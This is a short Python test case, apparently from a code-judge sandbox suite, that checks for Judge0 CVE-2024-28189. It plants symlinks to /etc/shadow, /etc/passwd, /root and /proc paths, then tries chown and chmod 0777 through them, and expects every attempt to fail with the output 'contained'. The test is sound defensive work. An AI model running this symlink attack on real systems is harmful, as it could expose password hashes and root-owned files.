# tries: to have root give it the host's files, by a chown or chmod that follows the links it leaves (Judge0, CVE-2024-28189)
# must: AC
# prints: contained
import os

targets = ["/etc/shadow", "/etc/passwd", "/root", "/run", "/var", "/proc/1/root", "/proc/self/root/..", "/proc/1/cwd", "../../../../etc/shadow", "/dev/null"]
for folder in ("/w", "/tmp", "/dev/shm"):
    for i, target in enumerate(targets):
        os.symlink(target, f"{folder}/link{i}")
    # A tree that a recursive chown would walk: folders between the links, locked ones too.
    os.makedirs(f"{folder}/deep/er/still")
    for i, target in enumerate(targets):
        os.symlink(target, f"{folder}/deep/er/still/link{i}")
    os.chmod(f"{folder}/deep/er", 0)
# What follows them inside must not be anybody's gain either.
got = []
for i in range(len(targets)):
    for follow in (lambda path: os.chown(path, os.getuid(), os.getgid()), lambda path: os.chmod(path, 0o777)):
        try:
            follow(f"/w/link{i}")
            if not os.path.realpath(f"/w/link{i}").startswith(("/w", "/proc/self/cwd")):
                got.append(targets[i])
        except OSError:
            pass
print("\n".join(got) or "contained")
